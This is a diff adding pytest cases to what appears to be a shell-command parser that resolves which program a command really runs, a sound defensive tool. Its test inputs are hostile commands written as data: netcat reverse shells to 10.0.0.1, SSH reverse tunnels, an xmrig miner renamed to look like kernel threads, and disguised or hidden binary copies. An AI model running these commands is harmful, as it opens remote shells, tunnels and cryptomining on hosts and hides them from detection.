@@ -334,3 +334,31 @@ def test_a_redirection_after_a_pipeline_writes_the_last_command_s_output():
     tr = next(c for c in cmds if c.name == "tr")
     echo = next(c for c in cmds if c.name == "echo")
     assert "/tmp/r.sh" in tr.writes and "/tmp/r.sh" not in echo.writes  # the shell gives it to the last
+
+
+@pytest.mark.parametrize("text, program", [
+    ("ln -s /usr/bin/ssh /tmp/s; /tmp/s -R 2222:localhost:22 u@203.0.113.4", "ssh"),
+    ("cp /bin/nc /tmp/.kworker; /tmp/.kworker -e /bin/sh 10.0.0.1 4444", "nc"),
+    ("cp $(which ssh) /tmp/.x; /tmp/.x -fNR 2222:localhost:22 u@203.0.113.4", "ssh"),
+    ("cp ./xmrig /dev/shm/kthreadd && /dev/shm/kthreadd -o pool.example:3333", "xmrig"),
+    ("cp /usr/bin/ssh /tmp/ && cd /tmp && ln -s ssh .s && ./.s -R 2222:localhost:22 u@203.0.113.4", "ssh"),
+    ("mv ./xmrig ./.cache; ./.cache -o pool.example:3333", "xmrig"),
+])
+def test_a_program_copied_or_linked_under_another_name_runs_as_itself(text, program):
+    cmd = next(c for c in reader.read(text) if c.name == program and any(v.startswith("script ") for v in c.via))
+    assert len(cmd.args) >= 2
+
+
+def test_a_copied_script_and_script_arguments():
+    session = Session()
+    cmds = reader.read("echo 'nc -e /bin/sh $1 $2' > a.sh; cp a.sh /tmp/b.sh; bash /tmp/b.sh 10.0.0.1 4444", session)
+    assert [c.args for c in cmds if c.name == "nc"][-1] == ["-e", "/bin/sh", "10.0.0.1", "4444"]
+    assert session.lookup("/tmp/b.sh") == "nc -e /bin/sh $1 $2\n"
+    cmds = reader.read(". /tmp/b.sh 192.0.2.1 9", session)  # a later action, sourcing it with arguments
+    assert [c.args for c in cmds if c.name == "nc"][-1] == ["-e", "/bin/sh", "192.0.2.1", "9"]
+
+
+def test_xargs_with_a_delimiter_passes_each_item_whole():
+    nc = find("echo 'nc -e /bin/sh 10.0.0.1 4444' | xargs -0 sh -c", "nc")
+    assert nc.args == ["-e", "/bin/sh", "10.0.0.1", "4444"]
+    assert find("printf 'a b,c' | xargs -d , touch", "touch").args == ["a b", "c"]
